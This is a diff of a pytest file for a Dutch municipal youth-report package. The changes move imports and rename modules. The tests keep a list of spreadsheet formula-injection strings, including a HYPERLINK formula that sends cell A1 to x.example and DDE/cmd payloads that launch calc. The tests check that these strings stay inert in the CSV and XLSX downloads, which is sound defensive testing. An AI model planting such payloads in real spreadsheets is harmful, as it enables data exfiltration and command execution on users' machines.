@@ -12,9 +12,10 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from jeugdmonitor import config, downloads, formatting, report
+from jeugdmonitor.definitions import config
+from jeugdmonitor.report import downloads, formatting, municipality
 
-from ..test_report import _inputs, _row
+from ..report.test_municipality import _inputs, _row
 
 HOSTILE = ['=HYPERLINK("http://x.example/?"&A1;"klik")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", '=DDE("cmd";"/C calc";"!A0")']
@@ -65,12 +66,12 @@ def hostile_report(cfg, monkeypatch):
     inputs = _inputs(hostile_cfg, rows)
     inputs.areas.loc[inputs.areas["gebied_code"] == "GM0503", "naam"] = name
     inputs.areas.loc[inputs.areas["gebied_code"] == "JZ24", "naam"] = region_name
-    return report.Report(inputs, "GM0503", name, "JZ24", region_name)
+    return municipality.Report(inputs, "GM0503", name, "JZ24", region_name)
 
 
 def test_every_download_reads_back_as_data(hostile_report, tmp_path):
-    written = [*report.save_local_table(hostile_report, tmp_path), report.save_figures(hostile_report, tmp_path),
-               report.save_overview(hostile_report.inputs, tmp_path)]
+    written = [*municipality.save_local_table(hostile_report, tmp_path), municipality.save_figures(hostile_report, tmp_path),
+               municipality.save_overview(hostile_report.inputs, tmp_path)]
     assert sorted(p.name for p in written) == sorted(["GM0503_lokale_paragraaf.csv", "GM0503_lokale_paragraaf.xlsx",
                                                       "GM0503_cijfers.csv", "overzicht_2023.csv"])
     for path in written:
@@ -88,7 +89,7 @@ def test_every_download_reads_back_as_data(hostile_report, tmp_path):
 
 
 def test_the_workbook_holds_numbers_with_their_status_beside_them(hostile_report, tmp_path):
-    report.save_local_table(hostile_report, tmp_path)
+    municipality.save_local_table(hostile_report, tmp_path)
     sheet = openpyxl.load_workbook(tmp_path / "GM0503_lokale_paragraaf.xlsx").active
     header = [c.value for c in sheet[1]]
     assert header[:2] == ["Indicator", "Eenheid"] and header[2] == f"{HOSTILE[0]} 2022"
@@ -104,7 +105,7 @@ def test_the_workbook_holds_numbers_with_their_status_beside_them(hostile_report
     assert page_cell == formatting.number(first[4].value, kpi.decimals) + first[5].value
     notes = [row[0] for row in sheet.iter_rows(min_row=len(hostile_report.inputs.cfg.local_kpis) + 2, values_only=True)
              if row[0]]
-    assert notes[0] == report.STATUS_LEGEND and any("getallen" in n for n in notes)
+    assert notes[0] == municipality.STATUS_LEGEND and any("getallen" in n for n in notes)
     assert any("Fictieve voorbeelddata" in n for n in notes)
 
 
